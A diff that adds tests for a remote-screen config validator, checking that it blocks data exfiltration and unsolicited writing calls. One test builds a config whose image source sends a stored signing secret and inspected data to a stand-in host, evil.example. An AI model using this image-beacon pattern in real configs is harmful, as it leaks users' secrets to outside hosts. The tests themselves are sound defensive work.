@@ -65,3 +65,37 @@ describe('checkRemoteScreen', () => {
     expect(loaded.problems[0].path).toBe('')
   })
 })
+
+describe('checkRemoteScreen under the run-time capabilities', () => {
+  it('refuses a config that reads inspect and storage and sends them off the site in a picture', async () => {
+    const config = {
+      ...good,
+      data: { calls: { inspect: 'calls' }, secret: { storage: 'SIGN_SECRET' } },
+      body: [{ type: 'image', src: 'https://evil.example/p.png?d={{ json(data) }}', alt: '' }],
+    }
+    const loaded = await checkRemoteScreen(config, 'remote:x', createTestEngine())
+    expect(loaded.config).toBeNull()
+    expect(loaded.problems.map((p) => `${p.path}: ${p.message}`)).toEqual([
+      expect.stringMatching(/^\/data\/calls: .*\(capability: data sources\): the "inspect" data source/),
+      expect.stringMatching(/^\/data\/secret: .*\(capability: data sources\): the "storage" data source/),
+      expect.stringMatching(/^\/body\/0\/src: .*\(capability: images\)/),
+    ])
+  })
+
+  it('refuses writing calls of the catalogue on entering, and lets a reading one and a tapped one through', async () => {
+    const config = {
+      ...good,
+      enter: [
+        { action: 'call', call: 'points.account' },
+        { action: 'call', call: 'homepage.follow', args: { accountCode: 'x', follow: true } },
+        { action: 'call', call: 'content.comment' },
+      ],
+      body: [{ type: 'button', text: '关注', press: { action: 'call', call: 'homepage.follow' } }],
+    }
+    const loaded = await checkRemoteScreen(config, 'remote:x', createTestEngine())
+    expect(loaded.problems.map((p) => `${p.path}: ${p.message}`)).toEqual([
+      expect.stringMatching(/^\/enter\/1\/call: .*\(capability: writing calls\): "homepage.follow" changes data/),
+      expect.stringMatching(/^\/enter\/2\/call: .*"content.comment" changes data/),
+    ])
+  })
+})
